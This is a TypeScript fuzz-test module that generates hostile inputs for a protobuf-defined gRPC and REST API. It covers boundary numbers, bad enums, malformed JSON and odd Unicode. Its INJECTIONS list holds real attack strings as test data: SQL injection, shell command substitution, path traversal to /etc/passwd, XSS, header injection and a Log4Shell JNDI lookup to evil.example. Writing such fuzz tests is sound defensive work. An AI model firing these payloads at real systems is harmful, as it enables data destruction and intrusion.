import { ScalarType, type DescField, type DescMessage } from "@bufbuild/protobuf";
import fc from "fast-check";

/**
 * Generators (fast-check arbitraries) of hostile values for the fuzz test: injection strings, path
 * traversal, odd Unicode, huge strings and numbers, wrong enum values, and whole request messages
 * (typed, for gRPC) or JSON bodies (any type, for REST) built from the protobuf descriptors, so every
 * field of every RPC is exercised without listing them by hand.
 */

/** Strings that break naive code: SQL and shell injection, traversal, markup, NUL, bidi, surrogates. */
export const INJECTIONS: readonly string[] = [
  "'; DROP TABLE events; --",
  "' OR '1'='1' --",
  "1; DELETE FROM users",
  "\"; SELECT pg_sleep(10); --",
  "1' UNION SELECT password_hash FROM users --",
  "$(reboot)",
  "`id`",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "..",
  "%00",
  "\u0000",
  "a\u0000b",
  "<script>alert(1)</script>",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "NaN",
  "-0",
  "1e309",
  "null",
  "[]",
  "{}",
  "\u202egnp.exe",
  "Ω≈ç√∫˜µ≤≥÷",
  "😀🚀👩‍👩‍👧‍👦",
  "\ud800",
  "\udfff\ud800",
  "\r\nX-Injected: 1",
  " ",
  "\t",
  "*",
  "%",
  "?a=b#c",
];

/** Any hostile string: injections, arbitrary UTF-16 (lone surrogates included), huge ones. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 20 }) },
  { weight: 1, arbitrary: fc.constantFrom("a".repeat(65), "x".repeat(10_000), "é".repeat(3_000), "9".repeat(400)) },
  { weight: 1, arbitrary: fc.integer().map(String) },
);

/** Numbers at and beyond every boundary the API has (limits, page sizes, int32, doubles). */
export const int32Value: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -1, 1, 10, 100, 101, 1000, 1001, 5000, 10_000, 10_001, 2 ** 31 - 1, -(2 ** 31)),
  fc.integer({ min: -(2 ** 31), max: 2 ** 31 - 1 }),
);

/** Doubles including NaN, infinities, -0 and the rating boundaries. */
export const doubleValue: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(Number.NaN, Infinity, -Infinity, -0, 0.5, 5, 5.5, 4.25, -1, 1e308, 5e-324),
  fc.double(),
);

/** JSON values of any type (what a REST client may send in place of any field). */
export const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileString },
  { weight: 2, arbitrary: fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constantFrom(1e300, -1e300, 2 ** 64, 0.1)) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 5 }) },
);

/** How ids are drawn: the pools the fuzz test controls (so it knows which rows could be written). */
export interface IdPools {
  /** Valid-looking user ids; the test must know every user id that exists among them. */
  readonly userIds: fc.Arbitrary<string>;
  /** Product ids (existing ones are fine: products are never written). */
  readonly productIds: fc.Arbitrary<string>;
  /** Event ids (idempotency keys). */
  readonly eventIds: fc.Arbitrary<string>;
  /** Usernames for CreateUser / CreateSession. */
  readonly usernames: fc.Arbitrary<string>;
}

/** Whether a string could be the id of an existing account not owned by the fuzz test (MovieLens ids, UUIDs). */
export function looksLikeForeignUserId(value: string): boolean {
  return /^\d+$/.test(value) || /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i.test(value);
}

/** The arbitrary of a field whose name says what it holds, or undefined for the generic one. */
function namedArb(field: DescField, pools: IdPools): fc.Arbitrary<unknown> | undefined {
  switch (field.name) {
    case "user_id":
      return pools.userIds;
    case "product_id":
    case "product_ids":
    case "exclude_product_ids":
      return pools.productIds;
    case "event_id":
      return pools.eventIds;
    case "username":
      return pools.usernames;
    case "password":
      return fc.oneof(hostileString, fc.constantFrom("correct horse battery", "short", "p".repeat(129), "🔑".repeat(128)));
    case "email":
      return fc.oneof(hostileString, fc.constantFrom("a@b.co", "no-at-sign", "x@y", `${"m".repeat(250)}@example.com`, "fuzz@example.com"));
    default:
      return undefined;
  }
}

function scalarArb(scalar: ScalarType): fc.Arbitrary<unknown> {
  switch (scalar) {
    case ScalarType.STRING:
      return hostileString;
    case ScalarType.BOOL:
      return fc.boolean();
    case ScalarType.DOUBLE:
    case ScalarType.FLOAT:
      return doubleValue;
    case ScalarType.INT32:
    case ScalarType.SINT32:
    case ScalarType.SFIXED32:
      return int32Value;
    case ScalarType.UINT32:
    case ScalarType.FIXED32:
      return fc.oneof(fc.constantFrom(0, 1, 2 ** 32 - 1), fc.nat());
    case ScalarType.INT64:
    case ScalarType.SINT64:
    case ScalarType.SFIXED64:
      return fc.oneof(fc.constantFrom(0n, -1n, 2n ** 63n - 1n, -(2n ** 63n)), fc.bigInt({ min: -(2n ** 63n), max: 2n ** 63n - 1n }));
    case ScalarType.UINT64:
    case ScalarType.FIXED64:
      return fc.bigInt({ min: 0n, max: 2n ** 64n - 1n });
    case ScalarType.BYTES:
      return fc.uint8Array({ maxLength: 64 });
  }
}

/** List lengths: mostly small, sometimes just past a documented bound (1000 events, 1000 ids). */
const listLength = fc.oneof({ weight: 8, arbitrary: fc.integer({ min: 0, max: 4 }) }, { weight: 1, arbitrary: fc.constantFrom(0, 1001, 1500) });

function elementArb(field: DescField & { fieldKind: "list" }, pools: IdPools, depth: number): fc.Arbitrary<unknown> {
  const named = namedArb(field, pools);
  if (named) return named;
  if (field.listKind === "message") return messageInit(field.message, pools, depth + 1);
  if (field.listKind === "enum") return enumArb(field.enum.values.map((v) => v.number));
  return scalarArb(field.scalar);
}

function enumArb(known: readonly number[]): fc.Arbitrary<number> {
  return fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...known) }, { weight: 1, arbitrary: fc.integer({ min: -(2 ** 31), max: 2 ** 31 - 1 }) });
}

/**
 * A typed initialiser of a message (protobuf-es `create` shape, keyed by localName): every field
 * present with probability ~3/4, each with a hostile value of its type, nested messages to depth 3.
 */
export function messageInit(message: DescMessage, pools: IdPools, depth = 0): fc.Arbitrary<Record<string, unknown>> {
  if (depth > 3) return fc.constant({});
  const entries: Record<string, fc.Arbitrary<unknown>> = {};
  for (const field of message.fields) {
    let arb: fc.Arbitrary<unknown>;
    if (field.fieldKind === "list") {
      const element = elementArb(field, pools, depth);
      arb = listLength.chain((n) => fc.array(element, { minLength: n, maxLength: n }));
    } else if (field.fieldKind === "map") {
      continue;
    } else {
      arb =
        namedArb(field, pools) ??
        (field.fieldKind === "message"
          ? messageInit(field.message, pools, depth + 1)
          : field.fieldKind === "enum"
            ? enumArb(field.enum.values.map((v) => v.number))
            : scalarArb(field.scalar));
    }
    entries[field.localName] = fc.option(arb, { nil: undefined, freq: 4 });
  }
  return fc.record(entries).map((r) => Object.fromEntries(Object.entries(r).filter(([, v]) => v !== undefined)));
}

/** A JSON value for one field as REST clients write it (proto3 JSON mapping), sometimes of the wrong type. */
function jsonFieldArb(field: DescField, pools: IdPools, depth: number): fc.Arbitrary<unknown> {
  const typed = typedJsonArb(field, pools, depth);
  return fc.oneof({ weight: 4, arbitrary: typed }, { weight: 1, arbitrary: anyJson });
}

function jsonScalar(scalar: ScalarType): fc.Arbitrary<unknown> {
  switch (scalar) {
    case ScalarType.INT64:
    case ScalarType.UINT64:
    case ScalarType.SINT64:
    case ScalarType.FIXED64:
    case ScalarType.SFIXED64:
      return fc.oneof(fc.bigInt({ min: -(2n ** 70n), max: 2n ** 70n }).map(String), fc.integer());
    case ScalarType.DOUBLE:
    case ScalarType.FLOAT:
      return fc.oneof(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constantFrom("NaN", "Infinity", "-Infinity", "1e999", 5.5, 0.5, 4.5));
    case ScalarType.INT32:
    case ScalarType.SINT32:
    case ScalarType.SFIXED32:
    case ScalarType.UINT32:
    case ScalarType.FIXED32:
      return fc.oneof(int32Value, fc.constantFrom(2 ** 40, -(2 ** 40), 1.5, "12", "12abc", "0x10"));
    case ScalarType.BOOL:
      return fc.oneof(fc.boolean(), fc.constantFrom("true", "yes", 1));
    case ScalarType.BYTES:
      return fc.oneof(fc.base64String({ maxLength: 40 }), hostileString);
    default:
      return hostileString;
  }
}

function typedJsonArb(field: DescField, pools: IdPools, depth: number): fc.Arbitrary<unknown> {
  if (field.fieldKind === "list") {
    const element: fc.Arbitrary<unknown> =
      namedArb(field, pools) ??
      (field.listKind === "message"
        ? jsonBody(field.message, pools, depth + 1)
        : field.listKind === "enum"
          ? jsonEnum(field.enum.values.map((v) => v.name))
          : jsonScalar(field.scalar));
    return listLength.chain((n) => fc.array(element, { minLength: n, maxLength: n }));
  }
  const named = namedArb(field, pools);
  if (named) return named;
  if (field.fieldKind === "enum") return jsonEnum(field.enum.values.map((v) => v.name));
  if (field.fieldKind === "message") {
    if (field.message.typeName === "google.protobuf.Timestamp") {
      return fc.oneof(
        fc.date({ min: new Date(-1e14), max: new Date(1e14), noInvalidDate: true }).map((d) => d.toISOString()),
        fc.constantFrom("1969-12-31T23:59:59Z", "9999-12-31T23:59:59Z", "99999-01-01T00:00:00Z", "not a time", "2030-01-01", ""),
      );
    }
    return jsonBody(field.message, pools, depth + 1);
  }
  if (field.fieldKind === "map") return fc.constant({});
  return jsonScalar(field.scalar);
}

function jsonEnum(names: readonly string[]): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...names) },
    { weight: 1, arbitrary: fc.constantFrom("EVENT_TYPE_PURCHASE", "click", "", 3, -1, 99, "EVENT_TYPE_CLICK ") },
  );
}

/**
 * A JSON object for a message, keyed by jsonName (sometimes the proto name), with unknown extra
 * fields now and then.
 */
export function jsonBody(message: DescMessage, pools: IdPools, depth = 0): fc.Arbitrary<Record<string, unknown>> {
  if (depth > 3) return fc.constant({});
  const entries: Record<string, fc.Arbitrary<unknown>> = {};
  for (const field of message.fields) {
    entries[field.jsonName] = fc.option(jsonFieldArb(field, pools, depth), { nil: undefined, freq: 4 });
  }
  const extras = fc.option(fc.dictionary(fc.constantFrom("bogus", "__proto__", "constructor", "passwordHash", "seq", "acceptTime"), anyJson, { maxKeys: 2 }), {
    nil: undefined,
    freq: 4,
  });
  return fc.tuple(fc.record(entries), extras).map(([r, extra]) => {
    const out: Record<string, unknown> = {};
    for (const [k, v] of Object.entries(r)) if (v !== undefined) out[k] = v;
    if (extra) for (const [k, v] of Object.entries(extra)) Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true });
    return out;
  });
}
